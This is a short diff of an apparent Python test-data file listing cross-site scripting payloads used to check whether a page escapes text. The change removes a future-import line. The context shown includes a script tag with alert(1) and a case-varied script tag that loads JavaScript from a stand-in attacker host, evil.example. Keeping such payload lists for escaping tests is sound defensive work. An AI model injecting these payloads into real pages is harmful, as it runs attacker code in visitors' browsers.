@@ -1,7 +1,5 @@
 """Texts that would run as a script, or leave their place, in a page that didn't escape them."""
 
-from __future__ import annotations
-
 PAYLOADS = (
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></sCrIpT>",
